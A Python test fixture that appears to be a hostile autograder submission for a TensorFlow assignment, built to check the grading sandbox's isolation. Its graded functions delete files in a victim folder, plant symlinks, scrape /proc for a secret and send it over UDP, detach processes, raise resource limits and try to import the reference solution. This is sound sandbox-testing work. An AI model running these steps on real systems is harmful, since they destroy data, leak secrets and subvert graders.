# A hostile TF2-edition submission ("Tensorflow_introduction": compute_total_loss
# defined, so the grader takes it for the TF2 assignment): the attacks of
# everything.py, one per graded function, in the TF2 child. A function returns
# the right answer only when the sandbox held against its attack.
# The test fills in VICTIM, SECRET, UDP_PORT and MARKER as for everything.py.
import importlib
import os
import resource
import subprocess
import sys

import numpy as np
import tensorflow as tf

VICTIM = "@VICTIM@"
SECRET = "@SECRET@"
UDP_PORT = "@UDP_PORT@"
MARKER = "@MARKER@"


# GRADED FUNCTION: linear_function
def linear_function():
    # Empty the victim folder, and plant links to it wherever the grader might look.
    for folder in {os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""), "/tmp"}:
        try:
            os.symlink(VICTIM, os.path.join(folder, "results"))
        except OSError:
            pass
    try:
        names = os.listdir(VICTIM)
    except OSError:
        names = []
    for name in names:
        try:
            os.unlink(os.path.join(VICTIM, name))
        except OSError:
            pass
    np.random.seed(1)
    X = tf.constant(np.random.randn(3, 1), name="X")
    W = tf.constant(np.random.randn(4, 3), name="W")
    b = tf.constant(np.random.randn(4, 1), name="b")
    return tf.add(tf.matmul(W, X), b)


# GRADED FUNCTION: sigmoid
def sigmoid(z):
    texts = [repr(dict(os.environ))]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for leaf in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{pid}/{leaf}", "rb") as stream:
                        texts.append(stream.read().decode("latin-1"))
                except OSError:
                    pass
    leaks = [text for text in texts if SECRET in text]
    import _socket

    for payload in [b"hello"] + [leak.encode("latin-1")[:1000] for leak in leaks]:
        try:
            _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(payload, ("127.0.0.1", int(UDP_PORT)))
        except OSError:
            pass
    if leaks:
        raise RuntimeError("leaked: " + leaks[0][:300])
    return tf.keras.activations.sigmoid(tf.cast(z, tf.float32))


# GRADED FUNCTION: one_hot_matrix
def one_hot_matrix(label, C=6):
    # Processes that leave (a new session), and hard limits raised: both must fail to matter.
    try:
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", MARKER + "-setsid"], start_new_session=True)
    except OSError:
        pass
    for limit in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
        try:
            resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            return tf.zeros([C])
        except (ValueError, OSError):
            pass
    return tf.reshape(tf.one_hot(label, C, axis=0), shape=[C, ])


# GRADED FUNCTION: compute_total_loss
def compute_total_loss(logits, labels):
    # The TF2 reference, by import or reload: it must not be in the sandbox's view.
    for name in ("tfsigns.tf2", "tfsigns.assignment"):
        try:
            importlib.reload(importlib.import_module(name))
            raise RuntimeError(f"the reference is importable: {name}")
        except ImportError:
            pass
    return tf.math.reduce_sum(
        tf.keras.metrics.categorical_crossentropy(tf.transpose(labels), tf.transpose(logits), from_logits=True)
    )
